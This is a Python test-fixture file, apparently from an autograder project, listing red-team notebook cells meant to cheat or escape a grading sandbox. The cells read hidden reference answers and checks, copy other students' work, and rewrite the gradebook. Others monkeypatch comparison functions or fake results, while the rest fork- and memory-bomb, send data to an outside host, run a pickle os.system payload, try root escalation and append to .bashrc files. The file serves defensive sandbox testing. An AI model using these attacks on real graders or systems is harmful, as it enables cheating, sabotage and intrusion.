"""The red-team corpus: hostile submissions, each aimed at one graded function.

Every attack is a code cell appended to an otherwise honest notebook for the ``initialization``
assignment (the honest cells define all three functions correctly). The appended cell redefines
``initialize_parameters_he`` (last definition wins, as in Python) so that the function returns the
right answer ONLY if the attack works; otherwise it returns garbage or dies. The grader must give
0 points on ``initialize_parameters_he`` for every attack, keep the other students' grades exactly
as in a clean run, and leave the gradebook and course files untouched.

Templates may use ``{repo}`` (the project checkout with reference/ and autograder/), ``{course}``
(the course directory with submitted/ and gradebook.db), ``{gradebook}`` (the database file) and
``{port}`` (a TCP listener in the trusted test process) and ``{site}`` (the site-packages folder
where deepgrade itself is installed: the worktree venv's for an editable install, the venv's own for
``pip install .`` or a wheel): the attacker is assumed to know every path.
"""
from __future__ import annotations

from dataclasses import dataclass

TARGET = "initialize_parameters_he"

# Splits an attack into several appended cells.
CELL_BREAK = "\n#--- next cell ---\n"

# Returned when an attack fails: a plausible-looking but wrong result.
WRONG = """
    import numpy as _np
    return {{f"{{k}}{{l}}": _np.ones((layers_dims[l], layers_dims[l - 1]) if k == "W" else (layers_dims[l], 1))
            for l in range(1, len(layers_dims)) for k in ("W", "b")}}
"""


@dataclass(frozen=True)
class Attack:
    id: str
    what: str            # what the attack tries
    cell: str            # code cell appended to the honest notebook (a format template)
    target: str = TARGET


# The honest answer: resource attacks return it only AFTER holding the resource, so they earn
# points exactly when the sandbox failed to stop them.
RIGHT = """
    import numpy as np
    np.random.seed(3)
    p = {{}}
    for l in range(1, len(layers_dims)):
        p[f"W{{l}}"] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        p[f"b{{l}}"] = np.zeros((layers_dims[l], 1))
    return p
"""

# Memory the red-team policy allows all processes of one sandbox together (tests/test_redteam.py);
# the class-4 attacks try to hold twice that where no RSS shows it.
REDTEAM_MEMORY_MIB = 1024


def _holds(body: str) -> str:
    """A redefinition of the target that runs ``body`` (grabbing a resource) and then answers right."""
    return "def initialize_parameters_he(layers_dims):\n" + body.rstrip() + "\n" + RIGHT


def _fn(body: str) -> str:
    """A redefinition of the target whose body is ``body`` followed by the wrong fallback."""
    return "def initialize_parameters_he(layers_dims):\n" + body.rstrip() + "\n" + WRONG


def _import_from(folder: str) -> str:
    """A target that puts ``folder`` first on sys.path and imports the reference from there."""
    return _fn("""
    import sys
    sys.path.insert(0, "%s")
    try:
        from reference.initialization import initialize_parameters_he as ok
        return ok(layers_dims)
    except Exception:
        pass""" % folder)


ATTACKS: list[Attack] = [
    Attack("import_reference", "import the trusted reference package", _fn("""
    try:
        import reference.initialization as R
        return R.initialize_parameters_he(layers_dims)
    except Exception:
        pass""")),
    Attack("read_reference_by_path", "exec the reference source read from the checkout", _fn("""
    try:
        ns = {{}}
        exec(open("{repo}/reference/initialization.py").read(), ns)
        return ns["initialize_parameters_he"](layers_dims)
    except Exception:
        pass""")),
    Attack("sys_path_reference", "put the checkout on sys.path and import", _import_from("{repo}")),
    Attack("walk_for_reference", "walk the file system looking for the reference", _fn("""
    import os
    for root in ("/", "/work", "/home", "/root", "/tmp", "/opt"):
        for d, _, files in os.walk(root):
            if d.endswith("reference") and "initialization.py" in files:
                ns = {{}}
                try:
                    exec(open(os.path.join(d, "initialization.py")).read(), ns)
                    return ns["initialize_parameters_he"](layers_dims)
                except Exception:
                    pass
            if d.count(os.sep) > 6:
                break""")),
    Attack("import_hidden_checks", "import the hidden checks to learn the inputs", _fn("""
    try:
        import autograder.checks.test_initialization as T
        raise SystemExit(str(T))
    except ImportError:
        pass""")),
    Attack("read_hidden_checks_by_path", "read the hidden checks' source", _fn("""
    try:
        open("{repo}/autograder/checks/test_initialization.py").read()
        import reference
    except Exception:
        pass""")),
    Attack("copy_other_submission", "copy another student's notebook from submitted/", _fn("""
    import glob, json
    for path in glob.glob("{course}/submitted/*/initialization/*.ipynb"):
        try:
            nb = json.load(open(path))
            ns = {{}}
            for c in nb["cells"]:
                if c["cell_type"] == "code" and "def initialize_parameters_he" in "".join(c["source"]):
                    exec("import numpy as np\\n" + "".join(c["source"]), ns)
            return ns["initialize_parameters_he"](layers_dims)
        except Exception:
            pass""")),
    Attack("write_gradebook", "raise its own score in the gradebook with sqlite3", """
import sqlite3
try:
    con = sqlite3.connect("{gradebook}")
    con.execute("UPDATE grade SET auto_score = 1e6")
    con.execute("DROP TABLE IF EXISTS dg_results")
    con.commit()
except Exception:
    pass
""" + _fn("    pass")),
    Attack("write_results_files", "overwrite results files and autograded notebooks", """
import os, glob
for pattern in ("{course}/autograded/*/*/*.json", "{course}/autograded/*/*/*.ipynb", "{course}/*.db"):
    for p in glob.glob(pattern):
        try:
            open(p, "w").write("{{}}")
        except Exception:
            pass
try:
    open("{course}/PWNED", "w").write("x")
except Exception:
    pass
""" + _fn("    pass")),
    Attack("monkeypatch_allclose", "make numpy's comparisons always succeed", """
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
""" + _fn("    pass")),
    Attack("monkeypatch_builtins", "replace builtins the checker might use", """
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.all = lambda x: True
builtins.len = lambda x: 0
""" + _fn("    pass")),
    Attack("patch_pytest_machinery", "neuter pytest/unittest assertion helpers if present", """
import sys, types
fake = types.ModuleType("pytest"); fake.approx = lambda x, **k: type("A", (), {{"__eq__": lambda s, o: True}})()
sys.modules["pytest"] = fake
import unittest
unittest.TestCase.assertEqual = lambda *a, **k: None
unittest.TestCase.assertTrue = lambda *a, **k: None
""" + _fn("    pass")),
    Attack("always_equal_object", "return an object equal to everything", _fn("""
    class Yes(dict):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __getitem__(self, k): return self
        def __len__(self): return 0
    return Yes()""")),
    Attack("lying_ndarray_subclass", "return an ndarray subclass that lies about shape and equality", _fn("""
    import numpy as np
    class Liar(np.ndarray):
        @property
        def shape(self): return (layers_dims[1], layers_dims[0])
        def __eq__(self, other): return np.ones(np.shape(other), bool)
        def tolist(self): return [[0.0]]
    out = {{}}
    for l in range(1, len(layers_dims)):
        out[f"W{{l}}"] = np.zeros(3).view(Liar)
        out[f"b{{l}}"] = np.zeros(3).view(Liar)
    return out""")),
    Attack("nan_tricks", "return NaNs hoping NaN comparisons pass", _fn("""
    import numpy as np
    return {{f"{{k}}{{l}}": np.full((layers_dims[l], layers_dims[l - 1]) if k == "W" else (layers_dims[l], 1), np.nan)
            for l in range(1, len(layers_dims)) for k in ("W", "b")}}""")),
    Attack("override_showtraceback", "silence tracebacks through IPython", """
try:
    get_ipython().showtraceback = lambda *a, **k: None
except Exception:
    pass
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
""" + _fn("    raise RuntimeError('hidden by the patched traceback')")),
    Attack("sys_exit", "exit the process from inside the graded call", _fn("""
    import sys
    sys.exit(0)""")),
    Attack("os_exit", "hard-exit the process with status 0", _fn("""
    import os
    os._exit(0)""")),
    Attack("kill_parent", "send SIGKILL to the parent and to every process it can see", _fn("""
    import os, signal
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass""")),
    Attack("ignore_signals", "ignore SIGTERM/SIGALRM and loop forever", _fn("""
    import signal, time
    for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGXCPU):
        try:
            signal.signal(s, signal.SIG_IGN)
        except Exception:
            pass
    while True:
        time.sleep(0.01)""")),
    Attack("atexit_fake_result", "print a fake perfect result at exit", """
import atexit, json, sys
atexit.register(lambda: sys.__stdout__.write(json.dumps({{"score": 100, "max_score": 100, "passed": True}})))
""" + _fn("    pass")),
    Attack("print_fake_frames", "print fake protocol frames and fake results", _fn("""
    import sys, json
    fake = json.dumps({{"ok": True, "value": {{"W1": [[1.0]]}}, "score": 100}})
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        try:
            stream.write(str(len(fake)) + "\\n" + fake + "\\n")
            stream.write("PASSED initialize_parameters_he 100/100\\n")
            stream.flush()
        except Exception:
            pass
    import os
    for fd in (1, 2, 3, 4, 5, 6):
        try:
            os.write(fd, fake.encode())
        except Exception:
            pass""")),
    Attack("hardcode_visible_example", "return the course's visible example for [3, 2, 1] only", _fn("""
    import numpy as np
    if list(layers_dims) == [3, 2, 1]:
        np.random.seed(3)
        return {{"W1": np.random.randn(2, 3) * np.sqrt(2 / 3), "b1": np.zeros((2, 1)),
                "W2": np.random.randn(1, 2) * np.sqrt(2 / 2), "b2": np.zeros((1, 1))}}""")),
    Attack("detect_grading", "cheat only when it detects the grader (env, argv, parent)", _fn("""
    import os, sys
    graded = any(k for k in os.environ if "GRADE" in k.upper() or "DEEPGRADE" in k.upper()) \\
        or "worker" in " ".join(sys.argv) or not os.isatty(0)
    if graded:
        try:
            import reference.initialization as R
            return R.initialize_parameters_he(layers_dims)
        except Exception:
            pass""")),
    Attack("huge_array", "return a gigantic array", _fn("""
    import numpy as np
    return {{"W1": np.zeros((40000, 40000))}}""")),
    Attack("infinite_loop", "never return", _fn("""
    while True:
        pass""")),
    Attack("cpu_threads", "burn CPU in background threads", _fn("""
    import threading
    def burn():
        while True:
            pass
    for _ in range(8):
        threading.Thread(target=burn, daemon=True).start()""")),
    Attack("memory_bomb", "allocate far more memory than the machine has", _fn("""
    chunks = []
    while True:
        chunks.append(bytearray(256 * 1024 * 1024))""")),
    Attack("fork_bomb", "fork without end", _fn("""
    import os
    while True:
        try:
            os.fork()
        except Exception:
            pass""")),
    Attack("disk_filler", "fill the disk", _fn("""
    import os
    block = b"x" * (16 * 1024 * 1024)
    for target in ("/tmp/fill", "fill", "{course}/fill"):
        try:
            with open(target, "wb") as f:
                for _ in range(4096):
                    f.write(block)
        except Exception:
            pass""")),
    Attack("enormous_output", "print gigabytes", _fn("""
    import sys
    line = "x" * 1_000_000
    for _ in range(5000):
        print(line)""")),
    Attack("network_access", "phone home over TCP and DNS", _fn("""
    import socket
    for host in ("127.0.0.1", "localhost", "pypi.org"):
        try:
            s = socket.create_connection((host, {port}), timeout=2)
            s.sendall(b"stolen")
        except Exception:
            pass""")),
    Attack("pickle_payload", "return a pickle payload as the result", _fn("""
    import pickle, os
    class Boom:
        def __reduce__(self):
            return (os.system, ("touch {course}/PICKLED",))
    return {{"W1": pickle.dumps(Boom()), "b1": Boom()}}""")),
    Attack("marshal_payload", "return marshalled code", _fn("""
    import marshal
    return {{"W1": marshal.dumps(compile("import os", "x", "exec"))}}""")),
    Attack("forged_wire_tag", "return a dict that imitates the wire format's array tag", _fn("""
    return {{"W1": {{"__nd__": {{"dtype": "|O", "shape": [1], "b64": "gASVAAAAAAAAAAA="}}}}}}""")),
    Attack("defined_twice_wrong_last", "a right definition followed by a wrong one (last wins)",
           _holds("    pass") + _fn("    pass")),
    Attack("shell_escape_and_magics", "copy the reference with shell escapes and line magics", """
!cp {repo}/reference/initialization.py /tmp/ref.py
files = !ls {repo}/reference
%run {repo}/reference/initialization.py
""" + _fn("""
    import runpy
    try:
        return runpy.run_path("/tmp/ref.py")["initialize_parameters_he"](layers_dims)
    except Exception:
        pass""")),
    Attack("cell_magic_bash", "copy the reference with a %%bash cell, then load the copy", """%%bash
cp {repo}/reference/initialization.py /tmp/ref.py
cp {repo}/reference/initialization.py ./ref.py
""" + CELL_BREAK + _fn("""
    import runpy
    for path in ("/tmp/ref.py", "ref.py"):
        try:
            return runpy.run_path(path)["initialize_parameters_he"](layers_dims)
        except Exception:
            pass""")),
    Attack("recursion_bomb", "recurse until the interpreter breaks", _fn("""
    import sys
    sys.setrecursionlimit(10 ** 8)
    def f(n):
        return f(n + 1) + 1
    f(0)""")),
    Attack("base_exception", "raise BaseException subclasses the checker may not catch", _fn("""
    raise KeyboardInterrupt("stop grading")""")),
    Attack("proc_peek", "read the grader's memory and command line via /proc", _fn("""
    import os
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                open(f"/proc/{{pid}}/environ", "rb").read()
                data = open(f"/proc/{{pid}}/cmdline", "rb").read()
                if b"reference" in data:
                    import reference
            except Exception:
                pass""")),
    # ---- class 1: trusted content installed as a package (wheel / pip install .) --------------
    Attack("import_from_install_site", "put deepgrade's own site-packages on sys.path and import",
           _import_from("{site}")),
    Attack("exec_installed_reference", "exec the installed copy of the reference by path", _fn("""
    import glob
    for path in glob.glob("{site}/reference/initialization.py") + glob.glob("/opt/*/*/reference/initialization.py"):
        try:
            ns = {{}}
            exec(open(path).read(), ns)
            return ns["initialize_parameters_he"](layers_dims)
        except Exception:
            pass""")),
    Attack("installed_checks_and_quiz_banks", "read the installed hidden checks and quiz answer banks", _fn("""
    import glob, os
    found = []
    for pattern in ("{site}/autograder/checks/*.py", "{site}/quizzes/banks/*", "{site}/reference/mistakes*"):
        for path in glob.glob(pattern):
            try:
                found.append(open(path, "rb").read()[:10])
            except Exception:
                pass
    if found:
        import reference""")),
    Attack("distribution_metadata", "locate the reference through deepgrade's installed metadata", _fn("""
    try:
        from importlib import metadata
        dist = metadata.distribution("deepgrade")
        ns = {{}}
        exec(dist.locate_file("reference/initialization.py").read_text(), ns)
        return ns["initialize_parameters_he"](layers_dims)
    except Exception:
        pass""")),
    Attack("walk_sandbox_site_dirs", "search every folder on sys.path and the Python install for the reference", _fn("""
    import os, sys
    roots = [p for p in sys.path if p] + [sys.base_prefix, sys.prefix, "/opt", "/usr/local/lib", "/usr/lib/python3"]
    for root in roots:
        for d, dirs, files in os.walk(root):
            if os.path.basename(d) == "reference" and "initialization.py" in files:
                try:
                    ns = {{}}
                    exec(open(os.path.join(d, "initialization.py")).read(), ns)
                    return ns["initialize_parameters_he"](layers_dims)
                except Exception:
                    pass
            dirs[:] = [x for x in dirs if not x.endswith(("tensorflow", "scipy", "sklearn"))]""")),
    # ---- class 4: memory the RSS does not show, /tmp shared with the next student ------------
    Attack("memfd_hoard", "hold twice the memory budget in memfd files (64 MiB each), then answer", _holds("""
    import os, time
    fds = []
    for i in range(%d // 64):
        fd = os.memfd_create(f"hoard{{i}}")
        chunk = b"x" * (1 << 20)
        for _ in range(64):
            os.write(fd, chunk)
        fds.append(fd)
    time.sleep(1.0)""" % (REDTEAM_MEMORY_MIB * 2))),
    Attack("memfd_between_calls", "grab memfd memory in a cell, keep it across calls, answer quickly", """
import os
_kept = []
for _i in range(%d // 64):
    _fd = os.memfd_create("kept")
    for _ in range(64):
        os.write(_fd, b"x" * (1 << 20))
    _kept.append(_fd)
""" % (REDTEAM_MEMORY_MIB * 2) + CELL_BREAK + _holds("""
    import os
    if sum(os.fstat(fd).st_size for fd in _kept) < (%d << 20):
        raise MemoryError("the hoard is gone")""" % (REDTEAM_MEMORY_MIB * 2))),
    Attack("dev_shm_hoard", "hold twice the budget in /dev/shm and /tmp (POSIX shared memory)", _holds("""
    import os, time
    chunk = b"x" * (1 << 20)
    held = 0
    for d in ("/dev/shm", "/tmp", "."):
        for i in range(%d // 64):
            try:
                with open(f"{{d}}/hoard{{i}}", "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
                        held += 1
            except OSError:
                break
    if held < %d:
        raise MemoryError(f"could hold only {{held}} MiB")
    time.sleep(1.0)""" % (REDTEAM_MEMORY_MIB * 2, REDTEAM_MEMORY_MIB * 2))),
    Attack("sysv_shm_hoard", "hold a System V shared memory segment after detaching it", _holds("""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(0, %d << 20, 0o1600)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget refused")
    addr = libc.shmat(shmid, None, 0)
    ctypes.memset(addr, 1, %d << 20)
    libc.shmdt(ctypes.c_void_p(addr))""" % (REDTEAM_MEMORY_MIB * 2, REDTEAM_MEMORY_MIB * 2))),
    # ---- class 7: what an unprivileged (user-namespace) sandbox might still allow -------------
    Attack("regain_root", "become root or regain capabilities (setuid, setuid binaries, uid_map)", _holds("""
    import os, subprocess
    gained = False
    for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0)):
        try:
            attempt()
            gained = os.geteuid() == 0
        except OSError:
            pass
    for path, text in (("/proc/self/uid_map", "0 0 1"), ("/proc/self/setgroups", "deny")):
        try:
            with open(path, "w") as f:
                f.write(text)
            gained = True
        except OSError:
            pass
    for cmd in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "x", "/opt"]):
        try:
            r = subprocess.run(cmd, capture_output=True, text=True, timeout=1, stdin=subprocess.DEVNULL)
            gained = gained or (r.returncode == 0 and r.stdout.strip() in ("", "0"))
        except Exception:
            pass
    with open("/proc/self/status") as f:
        caps = [l.split()[1] for l in f if l.startswith(("CapEff", "CapPrm", "CapAmb"))]
    gained = gained or any(int(c, 16) for c in caps)
    if not gained:
        raise PermissionError("no privilege gained")""")),
    Attack("nested_user_namespace", "create a nested user+mount namespace and bind the host's files", _holds("""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        raise PermissionError("unshare refused")
    if libc.mount(b"{repo}", b"/tmp", None, 4096, None) != 0:   # MS_BIND
        raise PermissionError("mount refused")""")),
    Attack("write_grader_home", "plant files in the grader's home and the checkout (same uid outside)", _holds("""
    import glob, os
    wrote = False
    targets = ["/root/.bashrc", "{repo}/PWNED", "{course}/PWNED",
               "{site}/PWNED.pth"] + [h + "/.bashrc" for h in glob.glob("/home/*")]
    for path in targets:
        try:
            with open(path, "a") as f:
                f.write("# pwned\\n")
            wrote = True
        except OSError:
            pass
    if not wrote:
        raise PermissionError("nothing writable")""")),
]

# ---- class 4, TensorFlow zygote: sessions forked from one process must not share /tmp ------------
# Graded in this order (by student name) with every session forked from the zygote; the honest
# student graded last needs 32 MiB of /tmp for its answer.
ZYGOTE_ATTACKS: list[Attack] = [
    Attack("zyg_3_fill", "fill /tmp and /dev/shm for the students after it", """
import os
for _d in ("/tmp", "/dev/shm"):
    try:
        for _i in range(1000):
            with open(f"{{_d}}/fill{{_i}}", "wb") as _f:
                for _ in range(16):
                    _f.write(b"x" * (1 << 20))
    except OSError:
        pass
""" + _fn("    pass")),
    Attack("zyg_1_plant", "leave a working answer in /tmp and /dev/shm for the next student", """
import os
_src = "def initialize_parameters_he(layers_dims):\\n" + %r
for _p in ("/tmp/dg_answer.py", "/dev/shm/dg_answer.py", "dg_answer.py"):
    try:
        with open(_p, "w") as _f:
            _f.write(_src)
        os.chmod(_p, 0o666)
    except OSError:
        pass
""" % RIGHT + _fn("    pass")),
    Attack("zyg_2_read", "run the answer another student left in /tmp", _fn("""
    import glob, runpy
    for path in (glob.glob("/tmp/dg_answer.py") + glob.glob("/dev/shm/dg_answer.py")
                 + glob.glob("/tmp/*/dg_answer.py") + glob.glob("/proc/*/root/tmp/dg_answer.py")
                 + glob.glob("/proc/*/cwd/dg_answer.py")):
        try:
            return runpy.run_path(path)["initialize_parameters_he"](layers_dims)
        except Exception:
            pass""")),
]

# An honest answer that needs scratch space: it loses points if an earlier student filled /tmp.
NEEDS_TMP = _holds("""
    with open("/tmp/scratch.bin", "wb") as f:
        f.write(b"x" * (32 << 20))""")
